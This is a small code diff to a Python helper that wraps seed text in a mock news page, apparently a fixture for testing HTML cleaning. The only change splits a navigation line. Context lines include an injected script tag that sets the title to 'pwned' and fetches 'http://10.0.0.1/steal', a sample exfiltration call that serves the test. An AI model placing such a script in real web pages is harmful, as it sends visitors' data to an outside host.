@@ -24,7 +24,8 @@ def seed_as_html(seed_text: str, charset: str = "utf-8") -> str:
 <script>document.title = "pwned"; fetch("http://10.0.0.1/steal");</script>
 <style>p {{ color: red }}</style>
 </head><body>
-<nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li><li><a href="/login">Sign in</a></li></ul></nav>
+<nav><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li>
+<li><a href="/login">Sign in</a></li></ul></nav>
 <header><h1>Russia has the upper hand in Luhansk, Ukrainian general concedes</h1></header>
 <article>
 {paragraphs}
